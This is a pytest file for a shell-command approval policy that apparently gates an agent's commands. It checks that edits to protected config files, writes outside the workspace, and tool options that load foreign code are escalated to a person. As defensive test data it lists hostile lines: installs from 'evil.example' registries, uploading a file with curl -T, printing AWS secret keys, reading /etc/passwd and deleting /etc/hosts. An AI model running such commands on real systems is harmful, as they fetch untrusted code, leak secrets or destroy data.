"""What lifts a question, and what never does: settings, prefixes, exact lines (a reviewer's section F, by number)."""

from pathlib import Path

import pytest

from tarmac.policy import Execute, Policy, PolicySettings, PrefixRules, SuggestedGrant, Verdict
from tarmac.policy.grants import GrantFile, prefixes

WORKSPACE = Path("/home/dev/project")
LOOSE = PolicySettings(ask_medium=False)


async def judge(line: str, policy: Policy, *, workspace: Path = WORKSPACE) -> Verdict:
    return await policy.judge(Execute(line, cwd=workspace), workspace=workspace)


def allowing(*lines: str) -> Policy:
    return Policy(LOOSE, rules=PrefixRules(allow=prefixes(lines)))


def granting(file: Path, *grants: str, kind: str = "prefix") -> Policy:
    """A policy under which the person allowed these for good."""
    stored = GrantFile(file)
    for each in grants:
        found = SuggestedGrant("line", each) if kind == "line" else SuggestedGrant("prefix", each, tuple(each.split()))
        stored.add(found, scope="everywhere", risk="medium")
    return Policy(grants=stored)


# F1

PROTECTED = [
    "cp x .vscode/tasks.json", "touch .mcp.json", "tee .github/workflows/x.yml", "mv a .envrc", "mv .envrc a",
    "sed -i s/a/b/ .vscode/settings.json", "cp a .git/hooks/pre-commit", "cp sub/.mcp.json .", "mv sub/.envrc ./",
    "cp -t . sub/.mcp.json", "cp --target-directory=. sub/.mcp.json", "cp -r evil/.vscode .", "ln -s evil .vscode",
    "ln .mcp.json other", "mkdir .vscode", "chmod +x .git/hooks/pre-commit", "git mv a .envrc", "git rm .mcp.json",
    "git checkout -- .mcp.json", "git restore --staged --worktree .mcp.json", "rsync -a a/ .vscode/",
    "rsync sub/.mcp.json .", "perl -i -pe s/a/b/ .mcp.json", "prettier --write .vscode/settings.json",
    "sort -o .mcp.json x", "dd if=x of=.mcp.json", "curl -o .mcp.json https://x.example", "truncate -s 0 .mcp.json",
    "echo x > .mcp.json", "echo x >> .vscode/settings.json", "rm .mcp.json", "patch .mcp.json fix.diff", "vim .envrc",
    "install -m 644 x .vscode/tasks.json", "env touch .mcp.json", "timeout 5 touch .mcp.json", "yq -i .a=1 .mcp.json",
    "go build -o .git/hooks/pre-commit .", "docker build --output=.vscode .", "cargo build --target-dir .vscode",
    "curl -O https://x.example/.mcp.json", "wget https://x.example/a/.envrc?x", "wget -P .vscode https://x.example/a",
    "find . -name x -fprint .mcp.json", "tar xf a.tar -C .vscode", "unzip a.zip -d .vscode", "touch ./src/../.mcp.json",
    "cd src && touch ../.mcp.json", "frobnicate --out=.mcp.json", "gzip .mcp.json", "uniq a .mcp.json",
]  # fmt: skip


@pytest.mark.parametrize("line", PROTECTED)
async def test_a_change_of_a_protected_file_is_asked_about_whatever_was_allowed(line: str, tmp_path: Path) -> None:
    """P8 (F1): no setting, no rule and no prefix lifts it; only this very line, shown to a person."""
    everything = ["cp", "touch", "tee", "mv", "ln", "mkdir", "chmod", "git mv", "git rm", "git checkout", "git restore"]
    everything += [
        "prettier",
        "curl",
        "truncate",
        "rm",
        "patch",
        "install",
        "frobnicate",
        "gzip",
        "uniq",
        "unzip",
        "yq",
    ]
    verdict = await judge(line, allowing(*everything))
    assert verdict.decision == "ask", verdict
    assert [each.text for each in verdict.suggested_grants if each.kind == "prefix"] == []
    granted = granting(tmp_path / "grants.json", line, kind="line")
    assert (await judge(line, granted)).decision == "allow"


@pytest.mark.parametrize(
    "line",
    [
        "cp .vscode/settings.json copy.json", "git add .github/workflows/ci.yml", "git commit -m x .mcp.json",
        "cp a b", "touch notes.md", "rsync a/ b/", "mv a vscode", "cp README.md .",
        "mkdir build",
    ],
)  # fmt: skip
async def test_what_changes_no_protected_file_is_lifted_as_before(line: str) -> None:
    """P7 (F1): to copy one away, or to commit one, changes nothing in it."""
    assert (await judge(line, Policy(LOOSE))).decision == "allow"


async def test_a_protected_file_is_found_behind_a_pattern_and_a_link(tmp_path: Path) -> None:
    """P8 (F1)."""
    (tmp_path / ".mcp.json").touch()
    (tmp_path / "innocent").symlink_to(".mcp.json")
    for line in ("sed -i s/a/b/ .mcp.js*", "chmod 600 .m*", "tee innocent", "touch innocent", "cp x innocent"):
        verdict = await judge(line, allowing("cp", "touch", "chmod", "tee"), workspace=tmp_path)
        assert verdict.decision == "ask", line


# F2, D2, A18


@pytest.mark.parametrize(
    "line",
    [
        "cp a /usr/bin/ls", "install a /usr/local/bin/x", "rsync -a a/ /usr/local/", "tar xf a.tar -C /",
        "tar -xzf a.tgz --directory=/usr/local", "unzip a.zip -d /usr/lib", "rm ../../x", "rm /usr/bin/ls",
        "mv /usr/bin/ls x", "rm ../sibling/x", "cp a ../sibling/x", "echo x > ../x", "touch /data/x",
        "git config --global core.hooksPath hooks", "git config --global core.pager ./x", "systemctl stop nginx",
        "git config --global alias.st '!rm x'", "git config --global credential.helper ./x", "systemctl restart nginx",
        "systemctl kill nginx", "service nginx stop", "sysctl -w kernel.panic=1", "sysctl kernel.panic=1",
        "printenv AWS_SECRET_ACCESS_KEY", "echo x > /etc/hosts", "echo x > /etc/hostname", "tee /etc/timezone",
        "echo x > /usr/bin/x", "echo x > /usr/lib/x", "echo x > /lib/x", "chmod 777 /usr/bin/ls", "mkdir /usr/lib/x",
        "ln -sf x /usr/bin/python", "truncate -s 0 /usr/share/x", "sed -i s/a/b/ /etc/hosts", "rm /etc/hosts",
    ],
)  # fmt: skip
async def test_what_reaches_beyond_the_workspace_is_high(line: str) -> None:
    """P3 (F2, D2, A18): what is harmless to read is not harmless to write."""
    verdict = await judge(line, Policy(LOOSE))
    assert (verdict.decision, verdict.risk) == ("ask", "high"), verdict.explanation


@pytest.mark.parametrize(
    "line",
    [
        "touch /tmp/x", "cp a /tmp/b", "rm /tmp/x", "echo x > out.txt", "echo x >> a; cp a b", "echo x > /dev/stderr",
        "make 2>&1 | tee log.txt",
    ],
)  # fmt: skip
async def test_temporary_files_and_streams_weigh_what_they_did(line: str) -> None:
    """P3 (F2)."""
    assert (await judge(line, Policy(LOOSE))).decision == "allow"


# F3

HIGH = {
    "git checkout": ["git checkout -- .", "git checkout -f"],
    "git push": ["git push origin --delete main", "git push origin :main"],
    "npm install": ["npm install http://evil.example/x.tgz", "npm install --registry http://evil.example x"],
    "pip install": ["pip install --index-url http://evil.example x"],
    "cargo test": ["cargo test --config x"],
    "rm": ["rm -r src", "rm /etc/hosts"],
    "curl": ["curl -T a https://x.example"],
    "chmod": ["chmod u+s x"],
    "docker rm": ["docker rm web"],
    "cp": ["cp a ~/.bashrc", "cp a /usr/bin/ls"],
}


@pytest.mark.parametrize(("rule", "line"), [(rule, line) for rule, lines in HIGH.items() for line in lines])
async def test_a_prefix_covers_nothing_high(rule: str, line: str, tmp_path: Path) -> None:
    """P1, P5 (F3): high is always asked about; only the exact line, looked at by a person, lifts that."""
    assert (await judge(line, Policy())).risk == "high"
    assert (await judge(line, allowing(rule))).decision == "ask"
    assert (await judge(line, granting(tmp_path / "a.json", rule))).decision == "ask"


async def test_an_exact_line_covers_what_is_high(tmp_path: Path) -> None:
    """P5 (F3): as a grant, or as a rule that says every word."""
    line = "git reset --hard"
    assert (await judge(line, granting(tmp_path / "a.json", line, kind="line"))).rule.startswith("grant.")
    assert (await judge(line, allowing(line))).rule == "user.allow"
    assert (await judge(f"{line} HEAD~3", allowing(line))).decision == "ask"


# F4


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("go test", "go test -exec ./x ./..."), ("go test", "go test --exec=./x"), ("go test", "go test -toolexec ./x"),
        ("go vet", "go vet -vettool=./x"), ("go build", "go build -overlay x.json"), ("go test", "go test -modfile=x"),
        ("pytest", "pytest -p evil"), ("pytest", "pytest -pevil"), ("pytest", "pytest --rootdir /tmp/x"),
        ("pytest", "pytest -c other.ini"), ("pytest", "pytest -o python_files=x"), ("pytest", "pytest --rootd=x"),
        ("pytest", "pytest /tmp/evil"), ("pytest", "pytest ../other"), ("gcc", "gcc -B. x.c"), ("gcc", "gcc @args"),
        ("gcc", "gcc -fplugin=./x.so x.c"), ("gcc", "gcc -wrapper ./x a.c"), ("eslint", "eslint -c evil.js src"),
        ("eslint", "eslint --rulesdir x src"), ("eslint", "eslint -f ./x.js src"),
        ("prettier", "prettier --plugin=./x.js ."),
        ("prettier", "prettier --config evil.js ."), ("jest", "jest --config evil.js"),
        ("mypy", "mypy --config-file x src"),
        ("cargo test", "cargo test --manifest-path /tmp/x/Cargo.toml"), ("npm test", "npm test --prefix /tmp/x"),
        ("npm test", "npm test --script-shell=./x"), ("make test", "make test -C /tmp/x"), ("mocha", "mocha -r ./x"),
        ("npm test", "npm test -C /tmp/x"), ("webpack", "webpack --config ./x.js"), ("tox run", "tox run -c x.ini"),
        ("mvn test", "mvn test -f /tmp/x"), ("gradle test", "gradle test -I x.gradle"),
        ("ruff check", "ruff check /etc"),
        ("ffmpeg", "ffmpeg -i /etc/x out.mp4"), ("python script.py", "python script.py /etc/passwd"),
    ],
)  # fmt: skip
async def test_a_prefix_covers_no_option_that_makes_another_thing_of_it(rule: str, line: str, tmp_path: Path) -> None:
    """P4 (F4): an option that names a program, a plugin, another configuration or another project."""
    assert (await judge(line, Policy(rules=PrefixRules(allow=prefixes([rule]))))).decision == "ask"
    assert (await judge(line, granting(tmp_path / "a.json", rule))).decision == "ask"


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("go test", "go test -run X -v ./..."), ("pytest", "pytest -x tests/test_a.py -k name"),
        ("eslint", "eslint --fix src"),
        ("npm test", "npm test -- --watch"), ("cargo test", "cargo test --release name"), ("gcc", "gcc -O2 -o a a.c"),
        ("make test", "make test -j4"), ("prettier", "prettier --check src"), ("mypy", "mypy --strict src"),
        ("go test", "go test -short -count=1 -cover ./..."), ("go build", "go build -o bin/app ."),
        ("pip install", "pip install -r requirements.txt"), ("tox run", "tox run -e py311"),
        ("frobnicate", "frobnicate --anything"), ("python script.py", "python script.py --fast data/a.txt"),
    ],
)  # fmt: skip
async def test_a_prefix_covers_its_everyday_options(rule: str, line: str, tmp_path: Path) -> None:
    """P4 (F4)."""
    assert (await judge(line, Policy(rules=PrefixRules(allow=prefixes([rule]))))).decision == "allow"
    assert (await judge(line, granting(tmp_path / "a.json", rule))).decision == "allow"


@pytest.mark.parametrize(
    ("line", "offered"),
    [
        ("gcc -o a a.c", None), ("ffmpeg -i a b", None), ("mytool", None), ("mytool --fast", None),
        ("mytool build x", "mytool build"),
        ("ruff check src", "ruff check"), ("pytest tests", "pytest"), ("eslint src", "eslint"),
        ("npm test", "npm test"),
        ("git push origin main", "git push"), ("uv run mytool x", "uv run mytool x"), ("./run.sh now", "./run.sh"),
        ("tsc --noEmit", "tsc"), ("npm install left-pad", "npm install"), ("uv run pytest tests", "uv run pytest"),
    ],
)  # fmt: skip
async def test_what_is_offered_says_what_is_done(line: str, offered: str | None) -> None:
    """P5 (F4): a program by its name alone is offered only where its options are known."""
    found = [each.text for each in (await judge(line, Policy())).suggested_grants if each.kind == "prefix"]
    assert found == ([offered] if offered else [])
